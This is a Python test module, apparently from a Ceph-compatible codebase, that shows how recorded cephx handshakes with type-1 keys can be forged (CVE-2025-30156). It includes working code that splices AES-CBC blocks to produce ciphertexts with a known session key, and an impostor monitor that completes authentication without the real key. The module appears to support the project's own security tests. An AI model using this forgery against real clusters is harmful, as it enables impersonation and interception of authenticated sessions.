"""What somebody without the key can do with recorded handshakes and type-1 keys (CVE-2025-30156).

AES-CBC with a fixed IV and no MAC: ciphertext blocks can be put together anew.  The first block's plaintext is known
(envelope, version, type, seconds of creation), so its raw decryption D(C0) is known without the key.  A ciphertext made
of first blocks alone has a plaintext that is known to the last bit: the session key in it is the forger's.
"""

from __future__ import annotations

import json
import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Final

from cephmonfs.auth.envelope import Usage, seal, unseal
from cephmonfs.model.cryptokey import CryptoKey, KeyType
from cephmonfs.model.entity import EntityName, EntityType
from cephmonfs.monitor.authserver import Answer, Challenge, Granted
from cephmonfs.msgr.events import Mode
from cephmonfs.wire.crypto import Secret
from cephmonfs.wire.cursor import Utime
from cephmonfs.wire.encoder import Encoder
from tests.vectors import DIRECTORY

IV: Final = b"cephsageyudagreg"
MAGIC: Final = 0xFF009CAD8826AA55


def xor(a: bytes, b: bytes) -> bytes:
    return bytes(x ^ y for x, y in zip(a, b, strict=True))


def blocks(data: bytes) -> list[bytes]:
    return [data[at : at + 16] for at in range(0, len(data), 16)]


def first_plain(created_s: int) -> bytes:
    """The plaintext of a sealed ticket's first block."""
    return b"\x01" + struct.pack("<QBHI", MAGIC, 1, 1, created_s)


@dataclass(frozen=True)
class Forgery:
    """A ciphertext, and the session key that the owner of the unknown key finds in it."""

    cipher: bytes
    key: bytes


def of_first_blocks(c0: bytes, created_s: int) -> Forgery | None:
    """C0 over and over, and a block of padding: its length field is whatever comes out, if that is 16 or more."""
    d0 = xor(first_plain(created_s), IV)
    p1 = xor(d0, c0)
    length = struct.unpack_from("<H", p1, 4)[0]
    if length < 16:
        return None
    count = (22 + length + 8 + 15) // 16 + 1
    return Forgery(c0 * count + xor(d0, bytes([16]) * 16) + c0, p1[6:16] + p1[:6])


def of_three_first_blocks(a: bytes, b: bytes, c: bytes, created_b: int, created_c: int) -> Forgery:
    """The same in the 48 bytes that a ticket has; the sizes in it are right once in 2^32 times."""
    p1 = xor(xor(first_plain(created_b), IV), a)
    p2 = xor(xor(first_plain(created_c), IV), b)
    return Forgery(a + b + c, p1[6:16] + p2[:6])


@dataclass(frozen=True)
class Heard:
    """What the wire showed of one handshake; `key` is for the tests' own checks."""

    name: str
    sealed: bytes
    key: CryptoKey
    payload: bytes  # from the monitor's last word on


def heard() -> Iterator[Heard]:
    """Every recorded handshake with a type-1 key, of real monitors, msgr1 and msgr2."""
    begin = bytes(Encoder().u16(0x100).s32(0).u8(1).u32(1).u32(EntityType.AUTH).u8(1).u32(48))
    for path in sorted(Path(DIRECTORY / "crypto").glob("msgr[12]-*.json")):
        doc = json.loads(path.read_text())
        key = CryptoKey.from_base64(doc["THROWAWAY_key"])
        if key.type is not KeyType.AES:
            continue
        wire = bytes.fromhex(doc.get("server_to_client") or doc["preauth_server_to_client"])
        at = wire.index(begin)
        yield Heard(path.stem, wire[at + len(begin) :][:48], key, wire[at:])


class Impostor:
    """A monitor's half of cephx that knows no key but the forged session key."""

    method = 2
    modes = (Mode.SECURE, Mode.CRC)

    def __init__(self, forgery: Forgery, random: Callable[[int], bytes]) -> None:
        self.forgery = forgery
        self.random = random
        self.session_key = CryptoKey(KeyType.AES, Utime(1, 0), Secret(forgery.key))
        self.mode = Mode.CRC

    def start(self, entity: EntityName, global_id: int, mode: Mode, now: float) -> Answer:
        self.mode = mode
        return Challenge(bytes(Encoder().u8(1).u64(42)))

    def more(self, payload: bytes, now: float) -> Answer:
        """All that can be made with a known session key is right."""
        secret = self.random(64) if self.mode is Mode.SECURE else b""
        enc = Encoder().u16(0x100).s32(0).raw(self._ticket(EntityType.AUTH, self.forgery.cipher))
        sealed = seal(self.session_key, Usage.CONNECTION_SECRET, bytes(Encoder().blob(secret)), self.random)
        enc.blob(bytes(Encoder().blob(sealed)) if self.mode is not Mode.LEGACY else b"")
        inner = Encoder().u8(1)
        CryptoKey(KeyType.AES, Utime(1, 0), Secret(bytes(16))).encode(inner)
        inner.utime(Utime(3600, 0))
        service = seal(self.session_key, Usage.TICKET_SESSION_KEY, bytes(inner), self.random)
        enc.blob(self._ticket(EntityType.MON, service))
        return Granted(666, bytes(enc), self.session_key.secret, Secret(secret) if secret else None)

    @staticmethod
    def _ticket(service: EntityType, sealed: bytes) -> bytes:
        blob = bytes(Encoder().u8(1).u64(7).blob(b"ticket"))
        return bytes(Encoder().u8(1).u32(1).u32(service).u8(1).blob(sealed).boolean(False).blob(blob))

    def renew(self, payload: bytes, now: float) -> tuple[int, bytes]:
        return -13, b""


def first_block_of(sealed: bytes, key: CryptoKey) -> tuple[bytes, int]:
    """C0 and the second of its creation, which the forger knows from his clock."""
    cur = unseal(key, Usage.TICKET_SESSION_KEY, sealed, "ticket")
    cur.skip(3)
    return sealed[:16], cur.utime().sec
